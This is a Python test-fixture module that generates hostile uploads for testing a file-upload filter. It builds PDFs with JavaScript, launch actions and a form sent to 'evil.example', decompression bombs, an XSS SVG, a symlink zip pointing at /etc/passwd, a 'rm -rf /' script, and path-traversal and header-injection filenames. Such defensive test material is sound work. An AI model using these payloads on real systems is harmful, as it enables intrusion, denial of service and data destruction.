"""Files that must not get in, or not as they are, and files that must: made anew at every run."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

Array, Dictionary, Name = pikepdf.Array, pikepdf.Dictionary, pikepdf.Name
SEED = 20261126
MARK = b"GIAU-DU-LIEU-7F3A"
SCRIPT = {"/S": Name.JavaScript, "/JS": "app.alert(1)"}
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Upload:
    """`hidden`: what a reader of the kept file must never get; empty when it must be refused."""

    what: str
    name: str
    content: bytes
    hidden: bytes = b""


def pdf(change: Callable | None = None, pages: int = 1, **how) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        for _number in range(pages):
            document.add_blank_page()
        if change:
            change(document)
        document.save(out, **how)
    return out.getvalue()


def picture(kind: str, size=(60, 40), mode="RGB", **how) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 50).convert(mode).save(out, kind, **how)
    return out.getvalue()


# PDFs that act


def on_catalog(**entries):
    return lambda document: document.Root.update(
        Dictionary({f"/{key}": value for key, value in entries.items()})
    )


def on_page(**entries):
    return lambda document: document.pages[0].obj.update(
        Dictionary({f"/{key}": value for key, value in entries.items()})
    )


def link(**action):
    acts = Dictionary({f"/{key}": value for key, value in action.items()})
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=acts)
    return on_page(Annots=Array([note]))


def attachment(document):
    document.attachments["don.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def attached_note(document):
    spec = Dictionary(F="a.exe", EF=Dictionary(F=document.make_stream(b"MZ")))
    note = Dictionary(Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)
    document.pages[0].obj.Annots = Array([note])


def far_away_script(document):
    document.Root.Extra = document.make_indirect(Array([Array([Dictionary(SCRIPT)])]))


def chained_script(document):
    first = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([Dictionary(SCRIPT)]))
    document.Root.OpenAction = first


def script_in_a_stream(document):
    code = document.make_stream(b"app.alert(1)")
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=code)


def field_script(document):
    field = Dictionary(FT=Name.Tx, T="a", AA=Dictionary(K=Dictionary(SCRIPT)))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


ACTING = {
    "script when opened": on_catalog(OpenAction=Dictionary(SCRIPT)),
    "named script": on_catalog(
        Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", Dictionary(SCRIPT)])))
    ),
    "script in a link": link(S=Name.JavaScript, JS="app.alert(1)"),
    "program in a link": link(S=Name.Launch, F="cmd.exe"),
    "form sent in a link": link(S=Name.SubmitForm, F="http://evil.example"),
    "data fetched in a link": link(S=Name.ImportData, F="x"),
    "rendition": link(S=Name.Rendition, JS="app.alert(1)"),
    "on every page": on_catalog(AA=Dictionary(WC=Dictionary(SCRIPT))),
    "when a page opens": on_page(AA=Dictionary(O=Dictionary(SCRIPT))),
    "xfa form": on_catalog(AcroForm=Dictionary(XFA="x", Fields=Array())),
    "attachment": attachment,
    "attachment in a note": attached_note,
    "deep in arrays": far_away_script,
    "after a harmless action": chained_script,
    "script in a stream": script_in_a_stream,
    "script of a field": field_script,
    "rich media": on_page(
        Annots=Array([Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary(RichMedia=1))])
    ),
}


def acting() -> Iterator[Upload]:
    modes = {
        "plain": {"object_stream_mode": pikepdf.ObjectStreamMode.disable},
        "packed": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
        "linear": {"linearize": True},
    }
    for what, change in ACTING.items():
        for how, options in modes.items():
            yield Upload(f"{what}, {how}", "don.pdf", pdf(change, **options))


# PDFs that are broken, locked or too dear


def bomb(filters: int) -> bytes:
    """The page lies in an object stream that unpacks past every limit, or far more through two."""
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(b"5 0 <</Type/Page>>")]
    parts += [compressor.compress(b"\0" * (1 << 20)) for _mebibyte in range(600)]
    packed = b"".join(parts) + compressor.flush()
    for _again in range(filters - 1):
        packed = zlib.compress(packed, 9)
    chain = b" ".join([b"/FlateDecode"] * filters)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter[%s]/Length %d>>stream\n%s\nendstream"
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[5 0 R]/Count 1>>",
        b"null",
        stream % (chain, len(packed), packed),
    )
    body, places = written(objects)
    rows = [(0, 0, 65535), *((1, place, 0) for place in places), (2, 4, 0), (1, len(body), 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream"
    end = b"\nendobj\nstartxref\n%d\n%%%%EOF\n"
    return body + head % (len(table), table) + end % len(body)


def written(objects: tuple[bytes, ...]) -> tuple[bytes, list[int]]:
    """The objects from number 1 on, and where each begins."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return body, places


def bare_pdf(*objects: bytes) -> bytes:
    """A file written by hand: a catalog, one page, and the objects from number 4 on."""
    own = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        *objects,
    )
    body, _places = written(own)
    return body + b"trailer<</Root 1 0 R/Size %d>>\n%%%%EOF" % (len(own) + 1)


def broken_pdfs() -> Iterator[Upload]:
    whole = pdf(pages=3)
    for share in range(1, 13):
        cut = whole[: len(whole) * share // 13]
        yield Upload(f"cut at {share}/13", "don.pdf", cut)
    nothing = pdf(lambda document: document.pages.__delitem__(0))
    yield Upload("no page", "don.pdf", nothing)
    for method in ({"R": 2}, {"R": 3}, {"R": 4}, {"R": 6}):
        simple = {"aes": False, "metadata": False} if method["R"] < 4 else {}
        lock = pikepdf.Encryption(owner="a", user="b", **method, **simple)
        yield Upload(f"locked {method}", "don.pdf", pdf(encryption=lock))
    yield Upload("header only", "don.pdf", b"%PDF-1.7\n")
    yield Upload("header and noise", "don.pdf", b"%PDF-1.7\n" + random.Random(SEED).randbytes(4096))
    loop = bare_pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")
    yield Upload("pages that hold themselves", "don.pdf", loop)
    yield Upload("object stream bomb", "don.pdf", bomb(1))
    yield Upload("object stream bomb twice packed", "don.pdf", bomb(2))
    deep = b"[" * 200_000 + b"]" * 200_000
    yield Upload("arrays without end", "don.pdf", bare_pdf(deep), b"[" * 1000)


# Other things under a good name


def archive(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in parts.items():
            made.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def symlink_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        entry = zipfile.ZipInfo("a")
        entry.external_attr = 0xA1ED0000
        made.writestr(entry, "/etc/passwd")
    return out.getvalue()


def strangers() -> Iterator[Upload]:
    contents = {
        "program": b"MZ\x90\x00" + b"\0" * 200,
        "elf": b"\x7fELF" + b"\0" * 200,
        "page": b"<html><script>alert(1)</script>",
        "page, then a pdf": b"<html><script>alert(1)</script>" + pdf(),
        "blank line, then a pdf": b"\n" + pdf(),
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "gif with script": b"GIF89a/*\x01\x00*/=1;alert(1)",
        "gif": picture("GIF"),
        "tiff": picture("TIFF"),
        "webp": picture("WEBP"),
        "bmp": picture("BMP"),
        "docm": archive(word__vbaProject=b"x", word__document=b"x"),
        "zip": archive(a=b"x"),
        "zip with a link": symlink_archive(),
        "eicar": EICAR,
        "postscript": b"%!PS-Adobe-3.0\n",
        "script": b"#!/bin/sh\nrm -rf /\n",
        "shortcut": b"L\0\0\0\x01\x14\x02\0",
        "rtf": rb"{\rtf1\ansi}",
        "old office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "text": "Đơn đăng ký".encode(),
        "utf-16 pdf sign": "%PDF-1.7".encode("utf-16"),
    }
    for number, (what, content) in enumerate(contents.items()):
        yield Upload(what, ("don.pdf", "anh.jpg", "anh.png")[number % 3], content)
    for name in ("don.pdf.exe", "don.exe", "don.html", "don.svg", "don"):
        yield Upload(f"a pdf named {name!r}", name, pdf())
    yield Upload("empty", "don.pdf", b"")
    yield Upload("empty picture", "anh.png", b"")
    yield Upload("picture named pdf", "don.pdf", picture("PNG"))
    yield Upload("pdf named picture", "anh.jpg", pdf())
    yield Upload("png named jpg", "anh.jpg", picture("PNG"))


# Pictures


def chunk(kind: bytes, data: bytes) -> bytes:
    crc = struct.pack(">I", zlib.crc32(kind + data))
    return struct.pack(">I", len(data)) + kind + data + crc


def png_that_claims(width: int, height: int, depth: int = 8) -> bytes:
    """A few bytes that say they are a huge picture."""
    header = struct.pack(">IIBBBBB", width, height, depth, 2, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def png_with(extra: bytes) -> bytes:
    """A good picture with a chunk after its header."""
    content = picture("PNG")
    return content[:33] + extra + content[33:]


def bad_pictures() -> Iterator[Upload]:
    for size in ((8000, 7000), (9500, 9500), (20_000, 20_000), (60_000, 60_000), (0, 9)):
        yield Upload(f"claims {size}", "anh.png", png_that_claims(*size))
    out = io.BytesIO()
    Image.new("L", (7800, 7000)).save(out, "JPEG")
    yield Upload("54 million pixels", "anh.jpg", out.getvalue())
    out = io.BytesIO()
    Image.new("1", (6900, 6900)).save(out, "PNG")
    yield Upload("a flood in few bytes", "anh.png", out.getvalue())
    text = b"a\0\0" + zlib.compress(b"A" * (64 << 20), 9)
    yield Upload("text bomb", "anh.png", png_with(chunk(b"zTXt", text)))
    colours = b"a\0\0" + zlib.compress(b"A" * (64 << 20), 9)
    yield Upload("colour profile bomb", "anh.png", png_with(chunk(b"iCCP", colours)))
    for kind, name in (("JPEG", "anh.jpg"), ("PNG", "anh.png")):
        content = picture(kind, (300, 200))
        for share in (1, 2, 3, 4, 6):
            cut = content[: max(9, len(content) * share // 8)]
            yield Upload(f"{kind} cut at {share}/8", name, cut)


def hiding() -> Iterator[Upload]:
    """Good to look at, with something more inside: kept, and handed on without it."""
    yield Upload("pdf with a zip behind", "don.pdf", pdf() + archive(a=MARK), MARK)
    yield Upload("pdf with a page behind", "don.pdf", pdf() + b"<script>%s</script>" % MARK, MARK)
    yield Upload("pdf with a program behind", "don.pdf", pdf() + b"MZ" + MARK, MARK)
    noisy = pdf().replace(b"\n", b"\n%" + MARK + b"\n", 1)
    yield Upload("pdf with a comment inside", "don.pdf", noisy, MARK)
    old = pdf()[:-6] + b"4 0 obj\n(%s)\nendobj\n%%%%EOF" % MARK
    yield Upload("pdf with an object nobody names", "don.pdf", old, MARK)
    jpeg, png = picture("JPEG"), picture("PNG")
    yield Upload("jpg with a page behind", "anh.jpg", jpeg + b"<script>%s" % MARK, MARK)
    yield Upload("jpg with a zip behind", "anh.jpg", jpeg + archive(a=MARK), MARK)
    yield Upload("png with a page behind", "anh.png", png + b"<script>%s" % MARK, MARK)
    yield Upload("jpg with a comment", "anh.jpg", picture("JPEG", comment=MARK), MARK)
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif[0x8825] = {1: "N", 2: (21.0, 1.0, 40.0), 3: "E", 4: (105.0, 50.0, 1.0)}
    yield Upload("jpg with its place", "anh.jpg", picture("JPEG", exif=exif), MARK)
    yield Upload("png with its place", "anh.png", picture("PNG", exif=exif), MARK)
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", MARK.decode())
    yield Upload("png with words", "anh.png", picture("PNG", pnginfo=words), MARK)
    yield Upload("png with a chunk of its own", "anh.png", png_with(chunk(b"maRk", MARK)), MARK)
    yield Upload("jpg with a profile", "anh.jpg", picture("JPEG", icc_profile=MARK * 9), MARK)


def named() -> Iterator[Upload]:
    """Names that mean something to a file system, a header or an eye; kept under a plain one."""
    names = (
        "../../etc/don.pdf",
        "C:\\Users\\don.pdf",
        "đ" * 300 + ".pdf",
        "a\r\nSet-Cookie: b.pdf",
    )
    for name in (*names, "don\u202efdp.exe.pdf", "don.pdf\u202e", "<script>.pdf", '"; x=".pdf'):
        yield Upload(f"named {name[:20]!r}", name, pdf(), MARK)


def hostile() -> list[Upload]:
    made = (acting(), broken_pdfs(), strangers(), bad_pictures(), hiding(), named())
    return [upload for group in made for upload in group]
